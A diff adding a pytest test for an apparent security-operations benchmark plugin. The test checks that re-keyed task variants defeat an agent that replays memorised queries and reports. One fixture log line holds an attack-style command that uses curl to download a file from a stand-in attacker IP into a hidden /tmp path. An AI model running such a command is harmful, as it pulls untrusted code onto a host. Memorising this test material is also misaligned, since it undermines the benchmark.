@@ -1,0 +1,127 @@
+"""`--soclab-variant=K`: every case and task re-keyed and time-shifted, a complete and consistent case.
+
+The reference analyst scores the same on variants 0, 1 and 2 of every task; an agent that memorised
+variant 0 (its queries and its report) and replays them on variant 1 scores next to nothing.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pytest_soclab.models import Task
+from pytest_soclab.pseudonymize import Variant, offset_days
+from pytest_soclab.pseudonymize.variant import shift_text
+
+REPO = Path(__file__).resolve().parents[2]
+TASKS = sorted((REPO / "tasks").glob("task-*.json"))
+SCALE = "0.05"
+
+REPLAY_CONFTEST = '''
+import json, os, re
+
+def _words(s):
+    return set(re.findall(r"[a-z]{4,}", s.lower()))
+
+def pytest_soclab_make_agent(config, spec):
+    if spec != "replay":
+        return None
+    memory = json.loads(open(os.environ["SOCLAB_REPLAY"], encoding="utf-8").read())
+
+    def investigate(trigger, tools):
+        # A contaminated model recognises the task by its words and replays what it remembers.
+        seen = _words(trigger["prompt"] + json.dumps(trigger.get("pivot", {})))
+        best = max(memory, key=lambda m: len(seen & _words(m["prompt"])))
+        for call in best["calls"]:
+            try:
+                tools.call(call["tool"], **call["args"])
+            except Exception:
+                pass
+        return best["report"]
+
+    return investigate
+'''
+
+
+def _project(root: Path, cache: Path) -> None:
+    root.mkdir(parents=True, exist_ok=True)
+    (root / "pytest.ini").write_text(
+        "[pytest]\n"
+        f"soclab_corpus_dir = {REPO / 'corpus'}\n"
+        f"soclab_policy_dir = {REPO / 'rego'}\n"
+        f"soclab_cache_dir = {cache}\n"
+        f"soclab_scale = {SCALE}\n"
+    )
+    (root / "conftest.py").write_text(REPLAY_CONFTEST)
+
+
+def _run(pytester: pytest.Pytester, root: Path, variant: int, agent: str, name: str) -> dict[str, dict[str, Any]]:
+    out = root / f"{name}.json"
+    res = pytester.runpytest_subprocess(
+        *[str(t) for t in TASKS], "-c", str(root / "pytest.ini"), "--rootdir", str(root), "-p", "no:cacheprovider",
+        f"--soclab-agent={agent}", f"--soclab-variant={variant}", f"--soclab-json={out}",
+    )  # fmt: skip
+    assert out.is_file(), res.stdout.str()[-3000:]
+    data = json.loads(out.read_text())
+    assert data["run"]["variant"] == variant
+    return {i["scenario_id"]: i for i in data["items"]}
+
+
+def test_playbook_scores_the_same_on_variants_and_a_replay_scores_nothing(
+        pytester: pytest.Pytester, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    root = tmp_path / "project"
+    _project(root, tmp_path / "cache")
+    pytester.chdir()
+    runs = {k: _run(pytester, root, k, "playbook", f"v{k}") for k in (0, 1, 2)}
+    assert set(runs[0]) == {t.stem for t in TASKS}
+    for tid in runs[0]:
+        scores = [100 * runs[k][tid]["score"] for k in (0, 1, 2)]
+        assert max(scores) - min(scores) <= 2, (tid, scores)
+        assert all(runs[k][tid]["variant"] == k for k in (0, 1, 2))
+    # Variant 1 names other entities than variant 0: the transcripts differ.
+    assert runs[0]["task-01"]["report"] != runs[1]["task-01"]["report"]
+
+    prompts = {t.stem: json.loads(t.read_text())["trigger"]["prompt"] for t in TASKS}
+    memory = [{"prompt": prompts[tid], "report": item["report"],
+               "calls": [{"tool": c["tool"], "args": c["args"]} for c in item["transcript"]
+                         if c["tool"] in ("list_indices", "get_mappings", "esql_query", "es_search")]}
+              for tid, item in runs[0].items()]
+    replay_file = tmp_path / "memory.json"
+    replay_file.write_text(json.dumps(memory))
+    monkeypatch.setenv("SOCLAB_REPLAY", str(replay_file))
+    replayed = _run(pytester, root, 1, "replay", "replay-v1")
+    for tid, item in replayed.items():
+        # It did replay: the remembered queries ran and the remembered report was judged.
+        assert item["outcome"] != "error" and item["transcript"], (tid, item.get("error"))
+        assert 100 * item["score"] <= 10, (tid, item["score"], item["checkpoints"])
+    print("variant scores (v0, v1, v2, replay of v0 on v1):")
+    for tid in sorted(runs[0]):
+        print(tid, [round(100 * runs[k][tid]["score"], 1) for k in (0, 1, 2)], round(100 * replayed[tid]["score"], 1))
+
+
+def test_a_variant_is_consistent_and_keeps_the_order_of_time() -> None:
+    doc = {"@timestamp": "2024-05-14T02:10:09.000Z", "host": {"name": "web-01", "ip": ["10.20.1.11"]},
+           "source": {"ip": "198.51.100.177"}, "user": {"name": "deploy"},
+           "process": {"command_line": "curl -s http://198.51.100.177/x -o /tmp/.sysupdate"},
+           "event": {"created": "2024-05-14T02:10:10Z"}}
+    later = dict(doc, **{"@timestamp": "2024-05-15T00:00:00Z"})
+    v = Variant(1)
+    v.learn([doc, later])
+    a, b = v.document(doc), v.document(later)
+    assert a["host"]["name"] != "web-01" and a["source"]["ip"] != "198.51.100.177"
+    assert a["source"]["ip"] in a["process"]["command_line"]
+    assert a["@timestamp"] < b["@timestamp"] and a["@timestamp"][10:] == doc["@timestamp"][10:]
+    task = json.loads(TASKS[0].read_text())
+    t = Task.model_validate(v.task(task))
+    assert t.ground_truth.attacker_ip != task["ground_truth"]["attacker_ip"]
+    assert "web-01" not in json.dumps(t.model_dump())
+    assert a["host"]["name"] in t.ground_truth.implicated_hosts
+    # Variant 2 differs from variant 1; the offset is whole weeks into the past.
+    assert Variant(2).document(doc)["host"]["name"] != a["host"]["name"]
+    assert all(offset_days(k) % 7 == 0 and offset_days(k) < 0 for k in (1, 2, 3))
+    assert shift_text("on 2024-05-14 and .ds-x-2024.05.14-000001", -7) == "on 2024-05-07 and .ds-x-2024.05.07-000001"
+    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T02:10:09\.000Z", a["@timestamp"])
